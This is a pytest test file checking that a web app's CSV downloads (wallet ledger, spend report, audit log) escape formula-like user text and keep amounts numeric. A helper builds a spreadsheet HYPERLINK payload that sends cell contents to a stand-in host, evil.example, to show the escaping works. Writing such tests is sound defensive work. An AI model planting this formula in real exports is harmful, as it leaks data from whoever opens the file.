"""Every CSV download is safe to open in a spreadsheet: user text that starts like a
formula is defused with an apostrophe, through each real download (the wallet's ledger,
a member's spend report, the audit log), while amounts stay numbers."""

import csv
import io
import re
from decimal import Decimal

import pytest

from jobs.actions import start_fibo
from jobs.models import Job
from jobs.transitions import apply_status
from studio.activity.models import Event, record
from studio.billing import money
from studio.csv import FORMULA_START, cell
from tests.conftest import login

NUMBER = r"-?\d+(\.\d+)?"


def csv_rows(response):
    assert response.status_code == 200 and response["Content-Type"] == "text/csv; charset=utf-8"
    return list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode(), newline="")))


def charged_fibo(membership, prompt):
    job = start_fibo(membership, {"prompt": prompt, "aspect_ratio": "1:1", "steps_num": 30, "guidance_scale": "7.5"})
    Job.objects.filter(pk=job.pk).update(submission="accepted", request_id=f"r-{job.pk}")
    apply_status(job.pk, "COMPLETED")
    return job


def formula(start):
    return f'{start}HYPERLINK("http://evil.example/?leak="&A1,"click")'


@pytest.mark.parametrize("start", FORMULA_START)
def test_a_top_up_reason_is_never_run_in_the_wallet_csv(start, member, team, membership):
    charged_fibo(membership, "a red balloon")
    money.top_up(team, 250_000, reason=formula(start), key="odd")
    rows = csv_rows(login(member).get("/wallet/export.csv"))
    newest = rows[0]
    assert newest["kind"] == "topup" and newest["memo"] == "'" + formula(start)
    assert newest["amount"] == "0.25" and newest["balance_after"] == "1.21"


@pytest.mark.parametrize("start", FORMULA_START)
def test_a_prompt_is_never_run_in_the_member_spend_report(start, owner, team, member, membership):
    job = charged_fibo(membership, formula(start))
    [row] = csv_rows(login(owner).get(f"/reports/teams/{team.code}/members/{member.username}/?format=csv"))
    assert row["job"] == str(job.code) and row["prompt"] == "'" + job.params["prompt"]
    assert row["amount_usd"] == "0.04"


@pytest.mark.parametrize("start", FORMULA_START)
def test_an_event_summary_is_never_run_in_the_audit_csv(start, owner, team):
    record(team, owner, Event.Verb.SHARED, formula(start), gallery=formula(start))
    rows = csv_rows(login(owner).get("/audit/?format=csv&verb=shared"))
    assert [row["summary"] for row in rows] == ["'" + formula(start)]
    assert rows[0]["data"].startswith('{"gallery": ')


def test_money_columns_stay_numbers_a_spreadsheet_adds_up(member, team, membership):
    charged_fibo(membership, "a red balloon")
    money.top_up(team, 1_234_567, reason="-1 refund, +2 credit", key="odd")
    rows = csv_rows(login(member).get("/wallet/export.csv"))
    money_columns = ("amount", "held_change", "balance_after", "held_after")
    assert [row["kind"] for row in rows] == ["topup", "capture", "hold", "topup"]
    assert all(re.fullmatch(NUMBER, row[column]) for row in rows for column in money_columns)
    assert [row["amount"] for row in rows] == ["1.234567", "-0.04", "0", "1"]
    assert sum(Decimal(row["amount"]) for row in rows) == Decimal(rows[0]["balance_after"]) == Decimal("2.194567")
    assert rows[0]["memo"] == "'-1 refund, +2 credit", "a memo is text, even when it starts like a number"


@pytest.mark.parametrize("value, written", [
    (Decimal("-0.058"), "-0.058"), (Decimal("1.00"), "1.00"), (Decimal("0.000001"), "0.000001"), (-3, "-3"),
    (None, ""), ("-3", "'-3"), ("@sum", "'@sum"), ("plain", "plain"), (True, "True"),
])
def test_numbers_are_written_as_numbers_and_text_as_text(value, written):
    assert cell(value) == written
